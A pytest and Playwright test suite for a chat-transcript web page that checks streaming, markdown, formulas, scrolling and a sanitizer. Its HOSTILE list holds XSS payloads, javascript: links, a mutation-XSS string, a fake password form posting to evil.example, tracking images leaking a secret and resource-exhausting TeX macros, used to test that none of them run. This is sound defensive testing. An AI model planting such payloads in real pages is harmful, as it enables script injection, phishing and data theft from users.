"""The transcript in a real Chromium: what a reader sees, and what a hostile model cannot do."""
from __future__ import annotations

import json
import re
import shutil
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

SERVER = Path(__file__).with_name('rendering_page.py')
PROSE = 'One paragraph with a few words in it that fill a line or two on every screen there is.\n\n'
HOSTILE = [
    '<script>window.hacked = 1</script>',
    '<img src=x onerror="window.hacked = 1">',
    '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
    '<iframe src="javascript:parent.hacked = 1" srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    '[a](javascript:window.hacked=1) <javascript:window.hacked=1> [b](data:text/html,<script>1</script>) [c](&#106;avascript:hacked=1)',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    '<style>* { display: none !important } body { background: url(https://evil.example/s) }</style>',
    '<div style="position: fixed; inset: 0; z-index: 99999; background: red" class="to-latest">cover</div>',
    '![x](https://evil.example/track.png?secret=1) ![y](//evil.example/y.png) ![z](data:image/svg+xml,<svg onload=hacked=1>)',
    r'$\href{javascript:window.hacked=1}{x} \url{https://evil.example/} \includegraphics{https://evil.example/k.png}$',
    r'$\htmlStyle{position: fixed; inset: 0; z-index: 9999; background: red}{x} \htmlClass{to-latest}{y} \htmlData{a=b}{c}$',
    r'$$\rule{100000em}{100000em} \kern{99999em} \raisebox{-9999em}{x}$$',
    r'$\def\a{\a\a}\a$ $\def\b#1{#1#1#1}\b{\b{\b{\b{\b{\b{\b{x}}}}}}}$',
    '```"><script>window.hacked=1</script>\ncode <img src=x onerror=window.hacked=1>\n```',
    '```html\n<script>window.hacked = 1</script><img src=x onerror=window.hacked=1>\n```',
    '| <img src=x onerror=window.hacked=1> | b |\n|-|-|\n| <script>window.hacked=1</script> | ![t](https://evil.example/t.png) |',
    '[x]: javascript:window.hacked=1\n\n[x] and [settings](/settings) and [api](/api/chats) and <a href="/settings" onclick="hacked=1">y</a>',
    '</div></article><button aria-label="Send">x</button>',
]


class Site:
    """The page and the model behind it."""

    def __init__(self, port: int) -> None:
        self.url = f'http://127.0.0.1:{port}'

    def play(self, *steps: dict[str, Any], is_later: bool = False) -> list[dict[str, Any]]:
        body = json.dumps(steps).encode()
        request = urllib.request.Request(f'{self.url}/play{"-later" if is_later else ""}', body, {'content-type': 'application/json'})
        with urllib.request.urlopen(request, timeout=60) as answer:
            return json.loads(answer.read()) or []

    def chat(self, *turns: tuple[str, str]) -> None:
        self.play({'do': 'chat', 'turns': turns})

    def stream(self, text: str, **options: Any) -> None:
        self.play({'do': 'stream', 'text': text, **options})


@pytest.fixture(scope='module')
def site() -> Iterator[Site]:
    with socket.socket() as probe:
        probe.bind(('127.0.0.1', 0))
        port = probe.getsockname()[1]
    with subprocess.Popen([sys.executable, str(SERVER), str(port)], stdout=subprocess.PIPE, text=True, env=_environment()) as process:
        assert process.stdout
        assert 'ready' in process.stdout.readline()
        yield Site(port)
        process.terminate()


def _environment() -> dict[str, str]:
    """Without pytest's own variables: NiceGUI would believe that it is being tested."""
    return {'PATH': '/usr/bin:/bin', 'PYTHONUNBUFFERED': '1'}


@pytest.fixture(scope='module')
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        arguments = ['--no-sandbox', '--disable-gpu', '--disable-background-networking']
        browser = playwright.chromium.launch(executable_path=shutil.which('chromium') or shutil.which('google-chrome'), args=arguments)
        yield browser
        browser.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={'width': 1000, 'height': 700}, permissions=['clipboard-read', 'clipboard-write'])
    page = context.new_page()
    problems: list[str] = []
    page.on('pageerror', lambda error: problems.append(str(error)))
    page.on('console', lambda message: problems.append(message.text) if message.type == 'error' else None)
    yield page
    context.close()
    assert problems == []


def open_page(page: Page, site: Site, query: str = '') -> None:
    page.goto(f'{site.url}/?{query}')
    page.wait_for_function('document.querySelector(".transcript") && window.did_handshake')


def shown_text(page: Page) -> str:
    return page.locator('[data-part="text"]').last.evaluate('element => element.textContent')


# -- what is shown

def test_text_arrives_with_a_cursor_at_its_end(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'Hello?'})
    expect(page.get_by_role('article', name='You')).to_have_text(re.compile('Hello'))
    expect(page.locator('[data-part="state"]').last).to_have_text(re.compile(r'Waiting \d+\.\d s'))
    site.stream('Hello **you**')
    reply = page.get_by_role('article', name='demo/fast')
    expect(reply.locator('strong')).to_have_text('you')
    expect(reply).to_have_attribute('data-status', 'writing')
    expect(reply.locator('[data-part="text"] > .cursor:last-child')).to_be_visible()
    site.play({'do': 'finish', 'tokens': 12})
    expect(reply.locator('.cursor')).to_have_count(0)
    expect(reply).to_have_attribute('data-status', 'done')
    expect(reply).to_have_attribute('data-model', 'demo/fast')
    expect(reply).to_contain_text('12 tokens')


@pytest.mark.parametrize('text', [
    ''.join(f'Line {i} with words that are all different: {i * 7919}.\n\n' for i in range(300)).strip(),
    '```python\n' + ''.join(f'x{i} = "{i}"  # é\n' for i in range(700)) + '```',
    'Snow ☃, 日本語, \U0001F469‍\U0001F469‍\U0001F467 and e\u0301. ' * 200,
    'x' * 20_000,
], ids=['paragraphs', 'code', 'unicode', 'one word'])
def test_every_letter_that_was_received_is_shown(page: Page, site: Site, text: str) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'all of it'})
    site.stream(text, rate=30_000, step=7)
    site.play({'do': 'finish'})
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    received = re.sub(r'\s+', ' ', text.removeprefix('```python\n').removesuffix('```')).strip()
    assert re.sub(r'\s+', ' ', shown_text(page)).strip() == received
    streamed = page.locator('[data-part="text"]').last.evaluate('element => element.innerText')
    open_page(page, site)
    assert page.locator('[data-part="text"]').last.evaluate('element => element.innerText') == streamed


def test_code_tables_tasks_and_formulas_are_drawn(page: Page, site: Site) -> None:
    fence = '```python\ndef f():\n    return "x"\n```'
    site.chat(('draw', f'{fence}\n\n|a|b|\n|-|-:|\n|1|2|\n\n- [x] done\n- [ ] open\n  ```js\n  let a = 1\n  ```\n\n$$x^2$$\n\n[l](https://example.org)'))
    open_page(page, site)
    text = page.locator('[data-part="text"]').last
    expect(text.locator('.code-head').first).to_have_attribute('data-language', 'python')
    expect(text.locator('.hljs-keyword')).to_have_text(['def', 'return', 'let'])
    expect(text.locator('td').last).to_have_text('2')
    expect(text.get_by_role('checkbox', checked=True)).to_have_count(1)
    expect(text.get_by_role('checkbox', disabled=True)).to_have_count(2)
    expect(text.locator('.formula .katex')).to_be_visible()
    link = text.get_by_role('link', name='l', exact=True)
    expect(link).to_have_attribute('target', '_blank')
    expect(link).to_have_attribute('rel', 'noopener noreferrer')


def test_formula_library_is_loaded_only_for_formulas(page: Page, site: Site) -> None:
    loaded: list[str] = []
    page.on('request', lambda request: loaded.append(request.url))
    site.chat(('money', 'It costs $5 and $10.'))
    open_page(page, site)
    expect(page.get_by_text('It costs $5 and $10.')).to_be_visible()
    assert not [url for url in loaded if 'katex' in url]
    site.play({'do': 'ask', 'prompt': 'formula'}, {'do': 'text', 'text': 'so $E=mc^2$ it is'})
    expect(page.locator('.formula .katex')).to_be_visible()


def test_a_link_defined_at_the_end_becomes_one(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'link'})
    site.stream('See [the page].\n\nMore.\n\n[the page]: https://example.org/\n')
    site.play({'do': 'finish'})
    expect(page.get_by_role('link', name='the page')).to_have_attribute('href', 'https://example.org/')


# -- how it stands

def test_thoughts_are_folded_and_timed(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'think'}, {'do': 'thinking', 'text': 'hmm **so**'})
    button = page.get_by_role('button', name=re.compile('^Thinking… \\d+ s$'))
    expect(button).to_be_visible()
    thought = page.locator('[data-part="thinking"]')
    expect(thought).to_be_hidden()
    button.click()
    expect(thought.locator('strong')).to_have_text('so')
    site.play({'do': 'thinking', 'text': ' and more'}, {'do': 'text', 'text': 'Answer'})
    expect(thought).to_contain_text('and more')
    button = page.get_by_role('button', name=re.compile('^Thought for \\d+ s$'))
    button.click()
    expect(thought).to_be_hidden()
    site.play({'do': 'finish'})


@pytest.mark.parametrize(('values', 'words'), [
    ({'status': 'queued', 'queue_place': 2}, 'Queued #2'),
    ({'note': 'Rate limited: trying again', 'retry_in': 7.5}, r'Rate limited: trying again in \d s'),
    ({'ago': 64}, r'Waiting 6\d\.\d s'),
])
def test_waiting_says_for_what(page: Page, site: Site, values: dict[str, Any], words: str) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'wait'}, {'do': 'set', **values})
    expect(page.locator('[data-part="state"]').last).to_have_text(re.compile(words))
    expect(page.locator('.cursor')).to_have_count(0)


def test_a_stalled_stream_says_so(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'stall'}, {'do': 'text', 'text': 'so far'}, {'do': 'set', 'ago': 20})
    open_page(page, site)
    expect(page.locator('[data-part="state"]').last).to_have_text(re.compile(r'No data for 2\d s'))


def test_an_error_is_an_alert_with_retry(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'fail'}, {'do': 'text', 'text': 'half'},
              {'do': 'finish', 'status': 'failed', 'error': 'The server is <b>gone</b>.'})
    alert = page.get_by_role('article').last.get_by_role('alert')
    expect(alert).to_contain_text('The server is <b>gone</b>.')
    alert.get_by_role('button', name='Retry').click()
    page.get_by_role('button', name='Continue').click()
    expect_actions(page, site, ['retry', 'continue'])


def expect_actions(page: Page, site: Site, names: list[str]) -> list[dict[str, Any]]:
    """The buttons' events have reached Python in this order."""
    page.wait_for_function('() => new Promise(done => setTimeout(() => done(true), 50))')
    actions = site.play()[-len(names):]
    assert [action['action'] for action in actions] == names
    return actions


def test_a_stopped_reply_offers_to_continue(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'stop'}, {'do': 'text', 'text': 'half'}, {'do': 'finish', 'status': 'stopped'})
    reply = page.get_by_role('article').last
    expect(reply.locator('[data-part="state"]')).to_have_text('Stopped')
    expect(reply.get_by_role('button', name='Continue')).to_have_count(1)


# -- what can be done

def test_buttons_wait_for_the_end_and_say_why(page: Page, site: Site) -> None:
    site.chat(('first', 'answer'))
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'second'})
    first = page.get_by_role('article', name='You').first
    expect(first.get_by_role('button', name='Edit')).to_have_attribute('aria-disabled', 'true')
    expect(first.get_by_role('button', name='Edit')).to_have_attribute('title', re.compile('wait until'))
    site.play({'do': 'finish', 'status': 'stopped'})
    expect(first.get_by_role('button', name='Edit')).not_to_have_attribute('aria-disabled', 'true')


def test_a_prompt_is_edited_in_place(page: Page, site: Site) -> None:
    site.chat(('how are you', 'fine'))
    open_page(page, site)
    prompt = page.get_by_role('article', name='You')
    prompt.get_by_role('button', name='Edit').click()
    box = prompt.get_by_role('textbox')
    expect(box).to_have_value('how are you')
    box.fill('who are you')
    prompt.get_by_role('button', name='Save').click()
    assert expect_actions(page, site, ['edit'])[0]['text'] == 'who are you'


def test_copy_gives_the_markdown_and_the_menu_the_plain_text(page: Page, site: Site) -> None:
    site.chat(('c', '**bold** and\n\n- list'))
    open_page(page, site)
    reply = page.get_by_role('article').last
    reply.get_by_role('button', name='Copy', exact=True).click()
    page.wait_for_function('async () => (await navigator.clipboard.readText()) === "**bold** and\\n\\n- list"')
    reply.get_by_role('button', name='More').click()
    page.get_by_role('menuitem', name='Copy as plain text').click()
    page.wait_for_function('async () => (await navigator.clipboard.readText()).startsWith("bold and")')


def test_versions_are_paged_through(page: Page, site: Site) -> None:
    site.chat(('v', 'one'))
    open_page(page, site)
    site.play({'do': 'again'}, {'do': 'text', 'text': 'two'}, {'do': 'finish'})
    reply = page.get_by_role('article').last
    expect(reply).to_contain_text('2 / 2')
    expect(reply.get_by_role('button', name='Next version')).to_have_attribute('aria-disabled', 'true')
    reply.get_by_role('button', name='Previous version').click()
    expect_actions(page, site, ['previous-version'])


def test_a_very_long_prompt_is_sent_only_when_asked_for(page: Page, site: Site) -> None:
    prompt = 'word ' * 30_000 + 'the end'
    site.chat((prompt, 'read'))
    open_page(page, site)
    text = page.get_by_role('article', name='You').locator('[data-part="text"]')
    assert len(text.inner_text()) < 5000
    page.get_by_role('button', name='Show all').click()
    expect(text).to_contain_text('the end')


# -- scrolling and selecting

def test_the_page_follows_until_the_reader_scrolls_up(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'long'})
    site.stream(PROSE * 30, rate=20_000)
    at_end = '() => { const s = document.querySelector(".transcript-scroller"); return s.scrollHeight - s.clientHeight - s.scrollTop < 3 }'
    page.wait_for_function(at_end)
    page.mouse.move(400, 300)
    page.mouse.wheel(0, -300)
    jump = page.get_by_role('button', name='Jump to latest')
    expect(jump).to_be_visible()
    before = page.evaluate('document.querySelector(".transcript-scroller").scrollTop')
    site.stream(PROSE * 20, rate=20_000)
    expect(page.locator('[data-part="text"]').last.locator('p')).to_have_count(50)
    assert page.evaluate('document.querySelector(".transcript-scroller").scrollTop') == before
    jump.click()
    page.wait_for_function(at_end)
    site.stream(PROSE * 20, rate=20_000)
    expect(page.locator('[data-part="text"]').last.locator('p')).to_have_count(70)
    page.wait_for_function(at_end)
    expect(jump).to_be_hidden()


def test_a_selection_survives_streaming(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    site.play({'do': 'ask', 'prompt': 'select'})
    site.stream('Finished words here.\n\n- a list that is still **growing')
    page.evaluate('''() => {
        const item = document.querySelector(".prose li").firstChild;
        getSelection().setBaseAndExtent(document.querySelector(".prose p").firstChild, 9, item, 6);
    }''')
    selected = page.evaluate('getSelection().toString()')
    site.stream('** and more\n- next\n\nand a paragraph\n\n' + PROSE * 5)
    expect(page.locator('.prose').last).to_contain_text('and a paragraph')
    assert page.evaluate('getSelection().toString()') == selected
    site.play({'do': 'finish'})
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    assert page.evaluate('getSelection().toString()') == selected
    assert 'words here' in selected


def test_a_long_chat_shows_its_end_first_and_the_rest_on_scrolling_up(page: Page, site: Site) -> None:
    site.chat(*((f'question {i}', f'answer {i}\n\n' + PROSE * 3) for i in range(100)))
    open_page(page, site)
    expect(page.get_by_text('answer 99')).to_be_visible()
    assert page.get_by_role('article').count() == 30
    before = page.evaluate('''() => {
        const scroller = document.querySelector(".transcript-scroller");
        window.watched = scroller.querySelectorAll("article")[3];
        scroller.scrollTop = 500;
        return window.watched.getBoundingClientRect().top;
    }''')
    page.wait_for_function('document.querySelectorAll("article").length === 90')
    page.wait_for_function('() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done(true))))')
    assert abs(page.evaluate('window.watched.getBoundingClientRect().top') - before) < 60
    site.play({'do': 'ask', 'prompt': 'one more'})
    expect(page.get_by_text('one more')).to_be_visible()
    assert page.get_by_role('article').count() == 92


# -- what it costs

def test_two_thousand_lines_of_code_never_block_the_page(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    page.evaluate('''() => {
        window.longest = 0;
        new PerformanceObserver(list => { for (const e of list.getEntries()) window.longest = Math.max(window.longest, e.duration) })
            .observe({type: "longtask"});
    }''')
    site.play({'do': 'ask', 'prompt': 'code'})
    code = ''.join(f'    value_{i} = compute(value_{i - 1}, "text {i}")  # line {i}\n' for i in range(2000))
    site.stream(f'```python\n{code}```\n', rate=40_000)
    site.play({'do': 'finish'})
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    page.wait_for_function('document.querySelectorAll("code > div").length === document.querySelectorAll("code > div:has(.hljs-string)").length')
    assert page.locator('pre code').last.evaluate('element => element.textContent') == code
    assert page.evaluate('window.longest') < 100


def test_only_new_text_crosses_the_wire(page: Page, site: Site) -> None:
    sizes: list[int] = []
    page.on('websocket', lambda socket: socket.on('framereceived', lambda frame: sizes.append(len(frame))))
    site.chat()
    open_page(page, site)
    sizes.clear()
    site.play({'do': 'ask', 'prompt': 'long'})
    text = PROSE * (36_000 // len(PROSE))
    site.stream(text, rate=4500)
    site.play({'do': 'finish'})
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    assert len(text) < sum(sizes) < 80_000


# -- what a hostile model cannot do

@pytest.mark.parametrize('is_streamed', [True, False], ids=['streamed', 'at once'])
def test_nothing_of_the_model_runs_loads_or_covers(page: Page, site: Site, *, is_streamed: bool) -> None:
    foreign: list[str] = []
    page.on('request', lambda request: foreign.append(request.url) if not request.url.startswith((site.url, 'data:', 'blob:')) else None)
    page.on('dialog', lambda dialog: foreign.append(dialog.message))
    text = '\n\n'.join(HOSTILE)
    if is_streamed:
        site.chat()
        open_page(page, site)
        site.play({'do': 'ask', 'prompt': 'attack'})
        site.stream(text, rate=3000, step=3)
        site.play({'do': 'finish'})
    else:
        site.chat(('attack', text))
        open_page(page, site)
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done')
    expect(page.locator('.formula.is-filled').first).to_be_attached()
    for link in page.locator('.prose a').all():
        assert re.match('https?://|mailto:', link.get_attribute('href') or '')
        expect(link).to_have_attribute('target', '_blank')
    assert page.evaluate('window.hacked') is None
    assert foreign == []
    inside = 'document.querySelector(".prose:last-of-type")'
    assert page.evaluate(f'{inside}.querySelectorAll("script, img, iframe, style, form, svg image, object, [onerror], [onclick]").length') == 0
    covered = page.evaluate('''() => {
        const box = document.querySelector("#composer").getBoundingClientRect();
        return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2).id;
    }''')
    assert covered == 'composer'
    assert page.url.startswith(site.url)


def test_blind_columns_give_nothing_away(page: Page, site: Site) -> None:
    site.chat(('who', 'me'))
    open_page(page, site, 'nameless=true')
    expect(page.get_by_role('article', name='Model A')).to_contain_text('me')
    assert 'demo' not in page.content()


def test_a_reload_in_mid_stream_shows_everything(page: Page, site: Site) -> None:
    site.chat()
    open_page(page, site)
    text = ''.join(f'Word{i} ' for i in range(2000))
    site.play({'do': 'ask', 'prompt': 'reload'})
    site.play({'do': 'stream', 'text': text, 'rate': 8000}, {'do': 'finish'}, is_later=True)
    expect(page.get_by_role('article').last).to_contain_text('Word100 ')
    open_page(page, site)
    expect(page.get_by_role('article').last).to_have_attribute('data-status', 'done', timeout=15_000)
    assert shown_text(page).split() == text.split()
